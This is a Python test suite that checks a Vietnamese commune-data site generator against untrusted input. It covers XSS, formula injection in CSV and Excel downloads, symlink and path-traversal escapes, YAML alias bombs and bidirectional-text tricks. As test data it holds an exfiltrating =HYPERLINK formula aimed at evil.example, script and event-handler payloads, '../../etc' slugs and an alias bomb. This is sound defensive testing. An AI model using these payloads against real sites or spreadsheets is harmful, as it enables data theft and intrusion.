"""Untrusted data: every payload stays text, nothing runs, nothing leaves data/ or the output."""

from __future__ import annotations

import csv
import io
import itertools
import os
import re
import shutil
from pathlib import Path

import openpyxl
import pytest
import yaml

from generator.pipeline.validate import validate_tree
from tests.conftest import build
from tests.oracle import read_csv
from tests.pages import site_pages, soup

CORPUS = [
    line
    for line in (Path(__file__).parent / "fixtures" / "xss_payloads.txt")
    .read_text(encoding="utf-8")
    .splitlines()
    if line.strip()
]


def refused_at_input(text: str) -> bool:
    """A cell that is an Excel formula (=HYPERLINK(…)) is refused before anything is built."""
    from generator.input.text_checks import TextProblem, check_text

    try:
        check_text(text)
    except TextProblem:
        return True
    return False


PAYLOADS = [p for p in CORPUS if not refused_at_input(p)]
FREE_TEXT_METADATA = (
    "title",
    "legal_basis",
    "decision_number",
    "decision_issuer",
    "office",
    "notes",
    "standard",
    "period",
)
FREE_TEXT_COLUMNS = (
    "Nội dung",
    "Họ tên chủ hộ",
    "Loại đất",
    "Tên công trình, dự án",
    "Địa điểm",
    "Kỳ báo cáo",
    "Thủ tục hành chính",
    "Lý do trễ hạn",
)
THEME_INLINE_SCRIPTS = ("__md_scope=new URL(", "var target=document.getElementById(location.hash")


def test_corpus_is_large_enough():
    assert len(PAYLOADS) >= 50


def test_formula_payloads_are_refused_at_input_with_a_message():
    from generator.input.text_checks import TextProblem, check_text

    refused = [p for p in CORPUS if refused_at_input(p)]
    assert refused == ['=HYPERLINK("http://evil.example/?d="&A1,"Bấm")']
    with pytest.raises(TextProblem) as caught:
        check_text(refused[0])
    assert (caught.value.code, caught.value.params) == (
        "text-excel-formula",
        {"what": "hàm HYPERLINK"},
    )


def first_commune(data: Path) -> Path:
    return next(
        p.parent for p in sorted(data.rglob("unit.yaml")) if len(p.relative_to(data).parts) == 4
    )


def seed_payloads(commune: Path) -> dict[Path, list[str]]:
    """Put payloads, round robin, into every free-text field; returns dataset folder -> payloads."""
    payloads = itertools.cycle(PAYLOADS)
    placed: dict[Path, list[str]] = {}
    unit_file = commune / "unit.yaml"
    unit = yaml.safe_load(unit_file.read_text(encoding="utf-8"))
    name_before = f"{unit['type']} {unit['name']}"
    unit["name"] = "An <b onmouseover=alert(1)>Định</b>"
    # rows of the datasets held above that name the commune now name it by its code
    for held in commune.parent.parent.glob("*/*/*.csv"):
        text = held.read_text(encoding="utf-8")
        if f",{name_before}," in text:
            held.write_text(text.replace(f",{name_before},", f",{unit['code']},"), encoding="utf-8")
    renamed = {}  # a village's old name -> its code, for the cells that name villages by name
    for village in unit["villages"]:
        renamed[village["name"]] = village["code"]
        village["name"] = f"Thôn {next(payloads)}"
    for entry in unit["reception"]:
        for key in ("day", "place", "host"):
            entry[key] = next(payloads)
    unit["office"]["name"] = next(payloads)
    unit["office"]["address"] = next(payloads)
    unit_file.write_text(
        yaml.safe_dump(unit, allow_unicode=True, sort_keys=False), encoding="utf-8"
    )
    for meta_file in sorted(commune.glob("*/*/thong-tin.yaml")):
        folder = meta_file.parent
        meta = yaml.safe_load(meta_file.read_text(encoding="utf-8"))
        placed[folder] = []
        for key in FREE_TEXT_METADATA:
            if key in meta or key == "notes":
                meta[key] = next(payloads)
                placed[folder].append(meta[key])
        meta_file.write_text(
            yaml.safe_dump(meta, allow_unicode=True, sort_keys=False), encoding="utf-8"
        )
        for table in sorted(folder.glob("*.csv")):
            rows = read_csv(table)
            naming_villages = set()  # such columns hold villages, not free text
            for row in rows:  # «Thôn Yên Thái; Thôn Tân Phú» -> «T01; T02»: still the villages
                for column, value in row.items():
                    parts = [part.strip() for part in value.split(";")]
                    if value and all(part in renamed for part in parts):
                        row[column] = "; ".join(renamed[part] for part in parts)
                        naming_villages.add(column)
            columns = [c for c in rows[0] if c in FREE_TEXT_COLUMNS and c not in naming_villages]
            for row, column in zip(rows, columns * 3, strict=False):
                row[column] = next(payloads)
                # a name with a digit is refused as personal data (test_personal_data)
                while column == "Họ tên chủ hộ" and re.search(r"\d", row[column]):
                    row[column] = next(payloads)
                placed[folder].append(row[column])
            with table.open("w", encoding="utf-8", newline="") as handle:
                writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
                writer.writeheader()
                writer.writerows(rows)
    return placed


def assert_nothing_active(page: Path) -> None:
    doc = soup(page)
    for script in doc.find_all("script"):
        if script.get("src"):
            assert "_theme/assets/javascripts/" in script["src"] and not script["src"].startswith(
                ("http", "//")
            ), (page, script)
        elif script.get("type") != "application/json":
            assert (script.string or "").startswith(THEME_INLINE_SCRIPTS), (page, script)
    for tag in ("iframe", "object", "embed", "base", "frame", "applet"):
        assert not doc.find_all(tag), (page, tag)
    article = doc.find("article")  # the theme's own forms and icons live outside the content
    for chart in article.select("figure.ck-chart svg"):  # the generator's own charts only
        assert {t.name for t in chart.find_all(True)} <= {"title", "desc", "g", "rect", "text"}
        chart.decompose()
    if "huong-dan/can-bo/" in page.as_posix():  # the staff guide's own pictures (docs/can-bo/)
        for image in article.find_all("img"):
            assert re.fullmatch(r"(\.\./)?anh/[a-z0-9-]+\.png", image["src"]), (page, image)
            image.decompose()
    for tag in ("form", "svg", "math", "video", "marquee", "style", "link", "meta", "img", "input"):
        assert not article.find_all(tag), (page, tag)
    for element in article.find_all("details"):  # only the generator's own box of digests
        assert element.find("summary").get_text(strip=True).startswith("Mã kiểm tra"), page
    assert not doc.find("meta", attrs={"http-equiv": "refresh"})
    for element in doc.find_all(True):
        for name, value in element.attrs.items():
            assert not name.lower().startswith("on"), (page, element.name, name)
            text = " ".join(value) if isinstance(value, list) else str(value)
            if name in ("href", "src", "action", "formaction", "xlink:href", "data"):
                assert not text.strip().lower().startswith(("javascript:", "data:", "vbscript:")), (
                    page,
                    text,
                )


@pytest.fixture(scope="module")
def payload_site(tmp_path_factory):
    import shutil

    from tests.conftest import SAMPLE_DATA

    root = tmp_path_factory.mktemp("xss")
    data = root / "data"
    shutil.copytree(SAMPLE_DATA, data)
    commune = first_commune(data)
    placed = seed_payloads(commune)
    problems = validate_tree(data)
    assert not problems.errors, [str(p) for p in problems.errors][:5]
    result = build(data, root, jobs=2)
    assert result.ok, result.failed
    unit = next(u for u in result.tree if u.folder == commune)
    return root / "site", unit, placed


def test_no_payload_becomes_active_anywhere(payload_site):
    site, unit, _ = payload_site
    pages = site_pages(site)
    assert len(pages) > 100
    for page in pages:
        assert_nothing_active(page)


def test_every_payload_shows_as_text_where_it_was_put(payload_site):
    site, unit, placed = payload_site
    shown = 0
    for folder, payloads in placed.items():
        # A budget year's stages share a page: ngan-sach/<year>-<stage>/ is shown on
        # ngan-sach/<year>/.
        shown_on = folder.name.split("-")[0] if folder.parent.name == "ngan-sach" else folder.name
        page = site / unit.url_path / folder.parent.name / shown_on / "index.html"
        # the household list has a page of its own
        pages = (
            [page, site / unit.url_path / "ho-ngheo" / f"danh-sach-{folder.name}" / "index.html"]
            if (folder.parent.name == "ho-ngheo")
            else [page]
        )
        text = " ".join(" ".join(soup(p).find("article").get_text(" ").split()) for p in pages)
        for payload in payloads:
            assert " ".join(payload.split()) in text, (page, payload)
            shown += 1
    assert shown >= len(PAYLOADS)
    home = " ".join(soup(site / unit.url_path / "index.html").get_text(" ").split())
    assert "An <b onmouseover=alert(1)>Định</b>" in home
    contacts = " ".join(soup(site / unit.url_path / "lien-he" / "index.html").get_text(" ").split())
    for village in unit.villages:
        assert " ".join(village.name.split()) in contacts
    for entry in unit.reception:
        assert " ".join(entry["place"].split()) in contacts
    assert " ".join(unit.office["address"].split()) in contacts


def test_downloads_neutralise_formula_cells(payload_site):
    site, unit, _ = payload_site
    cells = []
    for download in (site / unit.url_path).rglob("*.csv"):
        cells += [
            c
            for row in csv.reader(io.StringIO(download.read_bytes()[3:].decode("utf-8")))
            for c in row
        ]
    formulas = [c for c in cells if "HYPERLINK" in c or "cmd|" in c]
    assert [
        c for c in formulas if c.startswith("'")
    ]  # a payload that would start a cell is neutralised
    assert not [
        c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))
    ]  # no cell starts a formula
    assert not [
        c for c in cells if c.startswith("-") and not re.fullmatch(r"-\d+(\.\d+)?", c)
    ]  # only negative numbers
    # the workbooks hold the payloads as they were typed, as text, never as formulas
    typed = []
    for book in (site / unit.url_path).rglob("*.xlsx"):
        for sheet in openpyxl.load_workbook(book).worksheets:
            typed += [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c for c in typed if c.data_type == "f"]
    assert {c.lstrip("'") for c in formulas} <= {c.value for c in typed}


def test_payloads_in_identifiers_fail_with_clear_messages(small_country):
    commune = first_commune(small_country)
    revenue = sorted((commune / "ngan-sach").glob("*/thu.csv"))[0]
    rows = read_csv(revenue)
    rows[1]["Thuộc mục"] = "<script>alert(1)</script>"
    with revenue.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    problems = validate_tree(small_country)
    hit = next(p for p in problems.errors if p.file.endswith(revenue.name) and p.row == 3)
    assert (hit.column, hit.value, hit.code) == (
        "Thuộc mục",
        "<script>alert(1)</script>",
        "budget.parent-unknown",
    )


@pytest.mark.parametrize("target", ["/etc/passwd", "outside"])
def test_symlinked_data_file_is_refused(small_country, tmp_path, target):
    (small_country.parent / "outside.csv").write_text(
        "Họ tên chủ hộ,Thôn\nbí mật,T01\n", encoding="utf-8"
    )
    commune = first_commune(small_country)
    listing = sorted((commune / "ho-ngheo").glob("*/danh-sach.csv"))[0]
    listing.unlink()
    if target == "outside":  # a relative link climbing out of data/
        target = os.path.relpath(small_country.parent / "outside.csv", listing.parent)
    assert target.startswith(("/", "../"))
    os.symlink(target, listing)
    problems = validate_tree(small_country)
    hit = next(p for p in problems.errors if p.file.endswith("danh-sach.csv"))
    assert hit.code == "symlink"
    result = build(small_country, tmp_path, jobs=1)
    assert not result.ok
    for page in (tmp_path / "site").rglob("*"):
        if page.is_file():
            content = page.read_bytes()
            assert b"root:x:0" not in content and "bí mật".encode() not in content


def test_symlinked_unit_folder_outside_data_is_refused(small_country, tmp_path):
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    (outside / "unit.yaml").write_text('code: "99888"\ntype: xã\nname: Ngoài\n', encoding="utf-8")
    os.symlink(outside, small_country / "tinh-binh-son" / "xa-ngoai")
    problems = validate_tree(small_country)
    assert any(
        p.code == "unit-folder-symlink" and p.file.endswith("xa-ngoai") for p in problems.errors
    )


@pytest.mark.parametrize("slug", ["../../etc", "/tmp/x", "a/../../b", "XA-A"])
def test_unit_slug_cannot_escape_the_output(small_country, slug):
    commune = first_commune(small_country)
    unit_file = commune / "unit.yaml"
    unit_file.write_text(
        unit_file.read_text(encoding="utf-8") + f'slug: "{slug}"\n', encoding="utf-8"
    )
    problems = validate_tree(small_country)
    hit = next(
        p
        for p in problems.errors
        if p.file == f"{commune.relative_to(small_country).as_posix()}/unit.yaml"
    )
    assert (hit.column, hit.value, hit.code) == ("slug (đường dẫn)", slug, "unit-slug-format")


def test_yaml_alias_bomb_and_huge_file_get_messages(small_country):
    commune = first_commune(small_country)
    meta = sorted(commune.glob("ngan-sach/*/thong-tin.yaml"))[0]
    bomb = ["a: &a [" + ",".join(["x"] * 10) + "]"]
    for level in range(1, 12):
        bomb.append(
            f"{chr(97 + level)}: &{chr(97 + level)} ["
            + ",".join([f"*{chr(96 + level)}"] * 10)
            + "]"
        )
    meta.write_text("\n".join(bomb) + "\n", encoding="utf-8")
    other = sorted(commune.glob("ho-ngheo/*/thong-tin.yaml"))[0]
    with other.open("w", encoding="utf-8") as handle:
        handle.write("title: " + "x" * (3 * 1024 * 1024) + "\n")
    problems = validate_tree(small_country)
    shown = {p.file: p.code for p in problems.errors}
    assert shown[meta.relative_to(small_country).as_posix()] == "yaml-aliases-expand"
    assert shown[other.relative_to(small_country).as_posix()] == "yaml-too-large"


def test_duplicate_yaml_keys_are_named_not_silently_dropped(small_country):
    commune = first_commune(small_country)
    meta = sorted(commune.glob("ngan-sach/*/thong-tin.yaml"))[0]
    meta.write_text(meta.read_text(encoding="utf-8") + "title: Tiêu đề thứ hai\n", encoding="utf-8")
    problems = validate_tree(small_country)
    hit = next(p for p in problems.errors if p.file == meta.relative_to(small_country).as_posix())
    lines = meta.read_text(encoding="utf-8").splitlines()
    first = next(n for n, line in enumerate(lines, start=1) if line.startswith("title:"))
    assert (hit.code, hit.row) == ("yaml-key-twice", len(lines))
    assert dict(hit.details)["key"] == "title" and dict(hit.details)["first"] == str(first)


@pytest.mark.parametrize("linked", ["version", "versions folder"])
def test_a_symlinked_earlier_version_is_refused(small_country, tmp_path, linked):
    """An earlier version (cac-ban-truoc/1) linked from outside data/ is never read: its files
    would be published as the dataset's first version."""
    dataset = sorted((first_commune(small_country) / "ho-ngheo").glob("*/danh-sach.csv"))[0].parent
    outside = tmp_path / "outside"
    version = outside / "cac-ban-truoc" / "1"
    shutil.copytree(dataset, version, ignore=shutil.ignore_patterns("cac-ban-truoc"))
    listing = version / "danh-sach.csv"
    lines = listing.read_text(encoding="utf-8-sig").splitlines()
    lines[1] = "Bí Mật Ngoài," + lines[1].split(",", 1)[1]
    listing.write_text("\n".join(lines) + "\n", encoding="utf-8")
    if linked == "version":
        (dataset / "cac-ban-truoc").mkdir()
        os.symlink(version, dataset / "cac-ban-truoc" / "1")
        shown = "cac-ban-truoc/1"
    else:
        os.symlink(outside / "cac-ban-truoc", dataset / "cac-ban-truoc")
        shown = "cac-ban-truoc"
    problems = validate_tree(small_country)
    assert any(p.code == "symlink" and p.file.endswith(shown) for p in problems.errors)
    build(small_country, tmp_path / "out", jobs=1)
    for page in (tmp_path / "out" / "site").rglob("*"):
        if page.is_file():
            assert "Bí Mật Ngoài".encode() not in page.read_bytes(), page


def test_a_unit_folder_named_with_a_direction_changing_character_is_refused(small_country):
    """The folder's name is published in the tree's list of units (don-vi.csv)."""
    commune = first_commune(small_country)
    renamed = commune.with_name("xa\u202e<img src=x>")
    commune.rename(renamed)
    found = [p for p in validate_tree(small_country).errors if p.code == "text-invisible"]
    assert [(p.file, p.column) for p in found] == [
        (f"{renamed.relative_to(small_country).as_posix()}/unit.yaml", "thư mục đơn vị")
    ]
    assert "<U+202E>" in found[0].value
    # printed, the folder's name never reorders the line
    assert "\u202e" not in str(found[0]) and "xa<U+202E><img src=x>/unit.yaml" in str(found[0])


def test_a_name_with_an_apostrophe_reads_as_written_in_the_frame(small_country, tmp_path):
    """Highland names carry apostrophes (huyện Ia H'Drai, Đắk R'Lấp): the tab's title, the header
    and the logo's tooltip show them as written, never as «&#x27;»."""
    commune = first_commune(small_country)
    unit_yaml = commune / "unit.yaml"
    data = yaml.safe_load(unit_yaml.read_text(encoding="utf-8"))
    data["name"], data["slug"] = "Ia H'Drai", "xa-ia-hdrai"
    unit_yaml.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), "utf-8")
    result = build(small_country, tmp_path / "out", jobs=1)
    assert result.ok, result.failed
    site = tmp_path / "out" / "site"
    home = next(site.rglob("xa-ia-hdrai/index.html"))
    doc = soup(home)
    shown = "Xã Ia H'Drai"
    assert doc.title.get_text() == f"Trang chủ - {shown}"
    assert doc.select_one("a.md-header__button.md-logo")["title"] == shown
    assert doc.select_one("a.md-header__button.md-logo")["aria-label"] == shown
